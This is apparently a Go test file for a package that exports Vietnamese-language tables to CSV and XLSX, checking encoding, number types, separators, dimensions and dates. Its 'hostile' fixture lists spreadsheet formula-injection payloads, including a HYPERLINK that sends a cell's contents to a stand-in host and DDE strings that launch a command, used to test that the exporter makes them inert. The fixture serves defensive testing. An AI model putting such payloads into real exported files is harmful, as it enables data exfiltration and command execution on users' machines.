package tablefile

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

var table = Table{Sheet: "Tiến độ", Header: []string{"Đơn vị", "Đã đại hội", "Tỷ lệ"},
	Rows: [][]any{{"Đảng bộ phường Bạch Mai", 9, 69.23}, {"Chi bộ Trường THPT Đoàn Kết", 0, 0.0}}}

func TestCSVKeepsVietnameseAndTheRows(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, table); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(buf.String(), "\ufeff") {
		t.Error("no byte-order mark")
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 || recs[0][0] != "Đơn vị" || recs[1][0] != "Đảng bộ phường Bạch Mai" || recs[1][1] != "9" || recs[1][2] != "69.23" {
		t.Errorf("%q", recs)
	}
}

func TestXLSXReadsBackWithNumbersAsNumbers(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, table); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows("Tiến độ")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 || rows[0][0] != "Đơn vị" || rows[2][0] != "Chi bộ Trường THPT Đoàn Kết" {
		t.Errorf("%q", rows)
	}
	for _, cell := range []string{"B2", "C2"} {
		if typ, err := f.GetCellType("Tiến độ", cell); err != nil || typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
			t.Errorf("%s is text (%v, %v), want a number", cell, typ, err)
		}
	}
	if typ, _ := f.GetCellType("Tiến độ", "A2"); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
		t.Errorf("A2 type %v, want text", typ)
	}
	if v, _ := f.GetCellValue("Tiến độ", "C2"); v != "69.23" {
		t.Errorf("C2 = %q", v)
	}
}

// hostile are cells a spreadsheet would run as formulas, and their CSV form.
var hostile = []struct{ in, csv string }{
	{`=HYPERLINK("http://x.example/?"&A1,"Bấm")`, `'=HYPERLINK("http://x.example/?"&A1,"Bấm")`},
	{"+84 912 345 678", "'+84 912 345 678"},
	{"-3", "'-3"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"'=1+1", "''=1+1"},
	{"Chi bộ 5 - phường Bạch Mai", "Chi bộ 5 - phường Bạch Mai"},
	{"'quoted'", "'quoted'"},
	{"", ""},
}

func TestCSVMakesTextInertButKeepsNumbers(t *testing.T) {
	tab := Table{Header: []string{"=Đơn vị", "Số", "Thay đổi"}}
	for _, h := range hostile {
		tab.Rows = append(tab.Rows, []any{h.in, -3, Formatted("-1")})
	}
	tab.Rows = append(tab.Rows, []any{"x", -2.5, Formatted("+3")})
	var buf bytes.Buffer
	if err := WriteCSV(&buf, tab); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if recs[0][0] != "'=Đơn vị" {
		t.Errorf("heading %q, want it inert", recs[0][0])
	}
	for i, h := range hostile {
		if got := recs[i+1]; got[0] != h.csv || got[1] != "-3" || got[2] != "-1" {
			t.Errorf("row %q = %q, want %q, then -3 and -1 as numbers", h.in, got, h.csv)
		}
	}
	if last := recs[len(recs)-1]; last[1] != "-2.5" || last[2] != "+3" {
		t.Errorf("numbers %q, want -2.5 and +3 as they are", last)
	}
}

func TestInertReadsBackExactly(t *testing.T) {
	for _, h := range hostile {
		if got := Inert(h.in); got != h.csv {
			t.Errorf("Inert(%q) = %q, want %q", h.in, got, h.csv)
		}
		if got := RestoreInert(Inert(h.in)); got != h.in {
			t.Errorf("RestoreInert(Inert(%q)) = %q", h.in, got)
		}
	}
}

func TestXLSXWritesTextAsTextNeverAsFormulas(t *testing.T) {
	tab := Table{Sheet: "Tiến độ", Header: []string{"Đơn vị", "Số"}}
	for _, h := range hostile {
		tab.Rows = append(tab.Rows, []any{h.in, -3})
	}
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, tab); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		if h.in == "" {
			continue
		}
		a, _ := excelize.CoordinatesToCellName(1, i+2)
		b, _ := excelize.CoordinatesToCellName(2, i+2)
		typ, _ := f.GetCellType("Tiến độ", a)
		v, _ := f.GetCellValue("Tiến độ", a)
		formula, _ := f.GetCellFormula("Tiến độ", a)
		if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString || v != h.in || formula != "" {
			t.Errorf("%s = %q (type %v, formula %q), want the text %q", a, v, typ, formula, h.in)
		}
		if typ, _ := f.GetCellType("Tiến độ", b); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
			t.Errorf("%s is text, want the number -3", b)
		}
	}
}

func TestCSVWithSemicolonsIsSplitAsExcelWithVietnameseSettingsSplitsIt(t *testing.T) {
	tb := Table{Header: []string{"Đơn vị", "Tỷ lệ", "Ghi chú"},
		Rows: [][]any{{"Đảng bộ phường Bạch Mai", Formatted("69,23%"), "họp; rút kinh nghiệm"}, {"=cmd", 3, nil}}}
	var buf bytes.Buffer
	if err := WriteCSVSep(&buf, tb, Semicolon); err != nil {
		t.Fatal(err)
	}
	text := strings.TrimPrefix(buf.String(), "\ufeff")
	if !strings.HasPrefix(buf.String(), "\ufeff") {
		t.Error("no byte-order mark")
	}
	if got, want := strings.SplitN(text, "\n", 2)[0], "Đơn vị;Tỷ lệ;Ghi chú"; got != want {
		t.Errorf("header line %q, want %q", got, want)
	}
	r := csv.NewReader(strings.NewReader(text))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"Đơn vị", "Tỷ lệ", "Ghi chú"}, {"Đảng bộ phường Bạch Mai", "69,23%", "họp; rút kinh nghiệm"}, {"'=cmd", "3", ""}}
	if fmt.Sprint(recs) != fmt.Sprint(want) {
		t.Errorf("read back %q, want %q", recs, want)
	}
}

func TestXLSXDeclaresTheSheetsRealDimension(t *testing.T) {
	for _, tc := range []struct {
		name string
		t    Table
		want string
	}{
		{"a header and two rows of three", table, "A1:C3"},
		{"a row longer than the header", Table{Header: []string{"a"}, Rows: [][]any{{"x", 1, 2, 3}}}, "A1:D2"},
		{"a header alone", Table{Header: []string{"a", "b"}}, "A1:B1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := WriteXLSX(&buf, tc.t); err != nil {
				t.Fatal(err)
			}
			if got := SheetDimensions(t, buf.Bytes()); len(got) != 1 || got[0] != tc.want {
				t.Errorf("dimensions %q, want [%s]", got, tc.want)
			}
		})
	}
}

// A day is dd/mm/yyyy in CSV, and a date cell shown dd/mm/yyyy in XLSX: a
// spreadsheet sorts 05/04/2020 after 31/03/2020, which text would not.
func TestADayIsADateInXLSXAndDdMmYyyyInCSV(t *testing.T) {
	day := func(s string) Day { d, _ := time.Parse("2006-01-02", s); return Day{d} }
	tb := Table{Sheet: "Lịch", Header: []string{"Ngày", "Đơn vị"}, Rows: [][]any{{day("2020-04-05"), "Chi bộ 1"}, {nil, "Chi bộ 2"}}}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, tb); err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimPrefix(buf.String(), "\ufeff"); got != "Ngày,Đơn vị\n05/04/2020,Chi bộ 1\n,Chi bộ 2\n" {
		t.Errorf("CSV %q", got)
	}
	buf.Reset()
	if err := WriteXLSX(&buf, tb); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if typ, _ := f.GetCellType("Lịch", "A2"); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		t.Errorf("the day is a cell of type %v, not a number (a date)", typ)
	}
	raw, _ := f.GetCellValue("Lịch", "A2", excelize.Options{RawCellValue: true})
	if raw != "43926" { // 05/04/2020 as Excel counts days
		t.Errorf("raw value %q, want 43926", raw)
	}
	if shown, _ := f.GetCellValue("Lịch", "A2"); shown != "05/04/2020" {
		t.Errorf("shown %q, want 05/04/2020", shown)
	}
	if v, _ := f.GetCellValue("Lịch", "A3"); v != "" {
		t.Errorf("no day: %q", v)
	}
}
